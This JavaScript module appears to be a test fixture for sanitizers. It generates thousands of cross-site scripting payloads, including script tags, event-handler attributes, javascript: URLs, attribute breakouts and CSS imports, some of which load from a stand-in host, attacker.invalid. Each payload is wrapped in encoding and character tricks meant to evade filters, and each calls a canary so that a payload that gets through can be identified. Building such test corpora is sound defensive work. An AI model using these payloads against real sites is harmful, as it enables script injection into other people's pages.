/**
 * Names as an attacker would choose them: 24 payloads, each in 300 carriers. A payload calls `hit(n)` or asks
 * `https://attacker.invalid/n`, where n is its number, so that whoever lets one through is caught by name.
 */

const AWAY = "https://attacker.invalid";

/** @type {Record<string, (n: number) => string>} */
export const KINDS = {
  "script element": (n) => `<script>hit(${n})</script>`,
  "script from elsewhere": (n) => `<script src=${AWAY}/${n}></script>`,
  "image that fails": (n) => `<img src=x: onerror=hit(${n})>`,
  "image from elsewhere": (n) => `<img src=${AWAY}/${n}>`,
  "svg that loads": (n) => `<svg><svg onload=hit(${n})></svg>`,
  "svg image from elsewhere": (n) => `<svg><image href=${AWAY}/${n} /></svg>`,
  "frame with a document": (n) => `<iframe srcdoc="<script>parent.hit(${n})</script>"></iframe>`,
  "frame with a script address": (n) => `<iframe src="javascript:parent.hit(${n})"></iframe>`,
  "details that open": (n) => `<details open ontoggle=hit(${n})>x</details>`,
  "field that takes the focus": (n) => `<input autofocus onfocus=hit(${n})>`,
  "video that fails": (n) => `<video><source onerror=hit(${n}) src=x:></video>`,
  "style that loads": (n) => `<style onload=hit(${n})></style>`,
  "style sheet import": (n) => `<style>@import url(${AWAY}/${n});</style>`,
  "style sheet link": (n) => `<link rel=stylesheet href=${AWAY}/${n}>`,
  "object from elsewhere": (n) => `<object data=${AWAY}/${n}></object>`,
  "refresh to elsewhere": (n) => `<meta http-equiv=refresh content="0;url=${AWAY}/${n}">`,
  "link with a script address": (n) => `<a href="javascript:hit(${n})">x</a>`,
  "script address": (n) => `javascript:hit(${n})`,
  "end of a quoted attribute": (n) => `" autofocus onfocus=hit(${n}) x="`,
  "end of a single-quoted attribute": (n) => `' autofocus onfocus=hit(${n}) x='`,
  "end of a text in a script": (n) => `";hit(${n});//`,
  "placeholder of a template": (n) => `\${hit(${n})}`,
  "end of a style rule": (n) => `x}body{background:url(${AWAY}/${n})}`,
  "dialog": (n) => `<img src=x: onerror=alert(${n})>`,
};

/** What a name may end before the payload begins, or hide behind. */
const BEFORE = [
  "", '">', "'>", "</script>", "</title>", "</style>", "</textarea>", "-->", "]]>", "</noscript>", "\u202e", "\u0000", "\ud800", "__proto__",
  "constructor.", "../../", "A".repeat(200), "é中🙂", "\r\n\r\n", "{{x}}",
];

/** How the payload is disguised. @type {((text: string) => string)[]} */
const DISGUISES = [
  (text) => text,
  (text) => `${text}${text}`,
  (text) => text.replaceAll("<", "<\u200b"),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "&#x3c;").replaceAll('"', "&#34;"),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replaceAll(" ", "\n"),
  (text) => text.replaceAll(" ", "\t/"),
  (text) => text.replace(/<(\w+)/g, (tag) => tag.toUpperCase()),
  (text) => text.replaceAll("<", "\\u003c"),
  (text) => text.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  (text) => ` ${text} `,
  (text) => `${text}<!--`,
  (text) => text.split("").reverse().join("") + text,
];

/** Names of the carriers are their numbers; all take a payload. */
export const CARRIERS = BEFORE.flatMap((before) => DISGUISES.map((disguise) => (/** @type {string} */ text) => before + disguise(text)));
const kinds = Object.entries(KINDS);
export const COUNT = kinds.length * CARRIERS.length;

/** @param {number} n from 0 to COUNT - 1; neighbours are of other kinds */
export function hostile(n) {
  const [kind, payload] = kinds[n % kinds.length];
  return { n, kind, text: CARRIERS[Math.floor(n / kinds.length)](payload(n)) };
}
